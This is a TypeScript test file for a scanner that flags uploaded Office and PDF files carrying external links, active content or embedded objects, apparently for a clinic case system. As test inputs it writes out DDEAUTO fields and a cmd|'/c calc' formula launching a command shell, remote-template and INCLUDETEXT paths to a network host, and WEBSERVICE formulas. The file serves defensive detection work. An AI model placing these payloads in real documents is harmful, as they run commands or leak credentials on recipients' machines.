/** What is said of an admitted file that is more than a document; links are not worth a word. */
import { describe, expect, it, test } from 'vitest';
import { readFileSync } from 'node:fs';
import { crc32 } from 'node:zlib';
import type { Caso } from '../../../../shared/caso.ts';
import type { Mensajes } from '../../../../shared/mensaje.ts';
import { rutaDeMuestra } from '../../../muestras.ts';
import { montar } from '../../apoyo.ts';
import { marcasDe, muestra, muestras } from './prueba.ts';
import { con, escribirZip, leerZip, mas, type Parte } from './zip-de-prueba.ts';

const marcada = (nombre: string) => readFileSync(rutaDeMuestra(`marcadas/${nombre}`));
const docx = leerZip(muestra('texto.docx'));
const xlsx = leerZip(muestra('hoja.xlsx'));
const pptx = leerZip(muestra('lamina.pptx'));
const NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const ESTRICTO = 'http://purl.oclc.org/ooxml/officeDocument/relationships';

const como = (partes: Parte[], nombre: string) => marcasDe(escribirZip(partes), nombre);

/** With one more relationship of the main part. */
const conRelacion = (type: string, target: string, modo = 'External', ns = NS) =>
  con(docx, 'word/_rels/document.xml.rels', (xml) =>
    xml.replace(
      '</Relationships>',
      `<Relationship Id="rIdX" Type="${ns}/${type}" Target="${target}" TargetMode="${modo}"/></Relationships>`,
    ),
  );

/** With this markup at the beginning of the text. */
const conTexto = (marcado: string) =>
  con(docx, 'word/document.xml', (xml) => xml.replace(/(<w:body>)/, `$1<w:p>${marcado}</w:p>`));
const campo = (...trozos: string[]) =>
  conTexto(
    [
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
      ...trozos.map((trozo) => `<w:r><w:instrText xml:space="preserve">${trozo}</w:instrText></w:r>`),
      '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ].join(''),
  );
const conFormula = (formula: string) =>
  con(xlsx, 'xl/worksheets/sheet1.xml', (xml) =>
    xml.replace('</sheetData>', `<row r="999"><c r="A999"><f>${formula}</f></c></row></sheetData>`),
  );

describe('files of real programs', () => {
  it.each([
    ['vinculos.docx', ['vinculos']],
    ['vinculos.doc', ['vinculos']],
    ['dde.xlsx', ['vinculos']],
    ['dde.xls', ['vinculos']],
    ['libro.xlsx', ['vinculos']],
    ['libro.xls', ['vinculos']],
    ['js.pdf', ['programa']],
    ['js-objstm.pdf', ['programa']],
    ['jsescape-objstm.pdf', ['programa']],
    ['launch.pdf', ['programa']],
    ['launch-objstm.pdf', ['programa']],
    ['submit.pdf', ['vinculos']],
    ['adjunto.pdf', ['incrustado']],
    ['adjunto-objstm.pdf', ['incrustado']],
  ])('%s is marked', async (nombre, marcas) => {
    expect(await marcasDe(marcada(nombre), nombre)).toEqual(marcas);
  });

  it.each([
    ['50 million pixels', 10_000, 5_000, []],
    ['one row more', 10_000, 5_001, ['enorme']],
    ['as many as a JPEG can', 65_535, 65_535, ['enorme']],
  ])('a picture of %s', async (_, ancho, alto, marcas) => {
    const [png, jpg] = [Buffer.from(muestra('base.png')), Buffer.from(muestra('base.jpg'))];
    png.writeUInt32BE(ancho, 16);
    png.writeUInt32BE(alto, 20);
    png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
    const sof = jpg.indexOf(Buffer.from([0xff, 0xc0]));
    jpg.writeUInt16BE(alto, sof + 5);
    jpg.writeUInt16BE(ancho, sof + 7);
    expect([await marcasDe(png, 'a.png'), await marcasDe(jpg, 'a.jpg')]).toEqual([marcas, marcas]);
  });

  // genuinos.test.ts has all other samples, none of which is marked.
  it('with links are among the samples', () => {
    expect(muestras.filter((nombre) => nombre.startsWith('enlaces')).length).toBe(7);
  });
});

describe('a document', () => {
  it.each([
    ['a template of the web', conRelacion('attachedTemplate', 'https://x.example/t.dotm')],
    ['a template of a server of the network', conRelacion('attachedTemplate', '\\\\10.0.0.9\\t\\a.dotx')],
    ['the same as an address of a file', conRelacion('attachedTemplate', 'file://10.0.0.9/t/a.dotx')],
    ['the same with five strokes', conRelacion('attachedTemplate', 'file://///10.0.0.9/t/a.dotx')],
    ['a picture of the web', conRelacion('image', 'https://x.example/p.png')],
    ['a frame', conRelacion('frame', 'https://x.example/')],
    ['a linked object', conRelacion('oleObject', 'https://x.example/a.xlsx', 'External', ESTRICTO)],
    ['a mode written with a reference', conRelacion('image', 'https://x.example/p.png', '&#69;xternal')],
    ['a DDE field', campo('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')],
    ['a DDE field in pieces', campo(' DD', 'EAU', 'TO cmd "/k calc"')],
    ['a DDE field with a comment', campo('DD<!-- x -->E cmd "/k calc"')],
    ['a DDE field in another case', campo('dde cmd "/k calc"')],
    ['a field hidden behind QUOTE', campo('QUOTE 68 68 69 65 85 84 79')],
    ['a simple field', conTexto('<w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "/>')],
    ['a text of elsewhere', campo('INCLUDETEXT "\\\\\\\\10.0.0.9\\\\a.docx"')],
  ])('with %s contains external links', async (_, partes) => {
    expect(await como(partes, 'a.docx')).toEqual(['vinculos']);
  });

  it.each([
    ['an ordinary link', conRelacion('hyperlink', 'https://x.example/DDE')],
    ['an ordinary link, strict', conRelacion('hyperlink', 'https://x.example/', 'External', ESTRICTO)],
    ['a template on its author’s disk', conRelacion('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm')],
    ['a template beside it', conRelacion('attachedTemplate', 'Normal.dotm')],
    ['a field of a link', campo(' HYPERLINK "https://x.example/DDE LINK" ')],
    ['a page number', campo(' PAGE \\* MERGEFORMAT ')],
    ['a text about DDE', conTexto('<w:r><w:t>DDEAUTO cmd</w:t></w:r>')],
    ['a bookmark named like one', campo(' REF DDE_1 \\h ')],
  ])('with %s is not marked', async (_, partes) => {
    expect(await como(partes, 'a.docx')).toEqual([]);
  });

  it('says each thing that it has, in one order', async () => {
    const partes = con(
      conRelacion('oleObject', 'embeddings/o.bin', 'Internal'),
      'word/_rels/document.xml.rels',
      (xml) =>
        xml.replace(
          '</Relationships>',
          `<Relationship Id="rY" Type="${NS}/image" Target="http://x.example/p" TargetMode="External"/>` +
            `<Relationship Id="rZ" Type="${NS}/control" Target="activeX/a.xml"/></Relationships>`,
        ),
    );
    expect(await como(partes, 'a.docx')).toEqual(['programa', 'vinculos', 'incrustado']);
  });

  it('with relationships that cannot be read is marked, and admitted as before', async () => {
    const raras = Buffer.from('<?xml version="1.0" encoding="UTF-7"?><Relationships/>');
    expect(await como(mas(docx, 'word/_rels/footer1.xml.rels', raras), 'a.docx')).toEqual(['vinculos']);
  });

  it('with the numbers of a chart is not marked', async () => {
    const rels = `<Relationships><Relationship Id="r" Type="${NS}/package" Target="../embeddings/a.xlsx"/></Relationships>`;
    expect(await como(mas(pptx, 'ppt/charts/_rels/chart1.xml.rels', rels), 'a.pptx')).toEqual([]);
    expect(await como(mas(pptx, 'ppt/slides/_rels/slide9.xml.rels', rels), 'a.pptx')).toEqual(['incrustado']);
  });
});

describe('a sheet and a presentation', () => {
  it.each([
    "cmd|'/c calc'!A0",
    'WEBSERVICE("http://x.example/"&amp;A1)',
    '_xlfn.WEBSERVICE(A1)',
    'DDE("a";"b";"c")',
  ])('that calculates %s contains external links', async (formula) => {
    expect(await como(conFormula(formula), 'a.xlsx')).toEqual(['vinculos']);
  });

  it.each(['SUM(A1:A2)', 'IF(A1="a|b!","DDE(",2)', 'Hoja2!A1'])(
    'that calculates %s is not marked',
    async (formula) => {
      expect(await como(conFormula(formula), 'a.xlsx')).toEqual([]);
    },
  );

  it('with a button that starts a program contains one', async () => {
    const partes = con(pptx, 'ppt/slides/slide1.xml', (xml) =>
      xml.replace('</p:sld>', '<a:hlinkClick action="ppaction://program" r:id="r1"/></p:sld>'),
    );
    expect(await como(partes, 'a.pptx')).toEqual(['programa']);
  });
});

test('both sides see it in the conversation, and a file of before is not marked', async () => {
  const { ips, agente, servicios } = await montar();
  const [clinica, ana] = [await ips(), await agente()];
  const subir = async (bytes: Buffer, nombre: string) =>
    (await clinica.subir(new Uint8Array(bytes), nombre)).json;
  const [suya, limpia, otra] = [
    await subir(marcada('js.pdf'), 'orden.pdf'),
    await subir(muestra('enlaces.pdf'), 'carta.pdf'),
    await subir(marcada('vinculos.docx'), 'carta.docx'),
  ];
  expect([suya.marcas, limpia.marcas, otra.marcas]).toEqual([['programa'], undefined, ['vinculos']]);
  const { numero } = await clinica.crearCaso({ adjuntos: [suya.clave, limpia.clave] });
  await clinica.escribir(numero, 'Otra', { adjuntos: [otra.clave] });
  const vistas = async () =>
    Promise.all(
      [clinica, ana].map(async (cliente) => {
        const caso = (await cliente.pedir<Caso>('GET', `/casos/${numero}`)).json;
        const { mensajes } = (await cliente.pedir<Mensajes>('GET', `/casos/${numero}/mensajes`)).json;
        return [...caso.adjuntos, ...mensajes.flatMap(({ adjuntos }) => adjuntos)].map(
          ({ marcas }) => marcas,
        );
      }),
    );
  const debidas = [['programa'], undefined, ['vinculos']];
  expect(await vistas()).toEqual([debidas, debidas]);
  await servicios.base.escribir((tx) => tx.updateTable('adjuntos').set({ marcas: null }).execute());
  const ningunas = [undefined, undefined, undefined];
  expect(await vistas()).toEqual([ningunas, ningunas]);
});
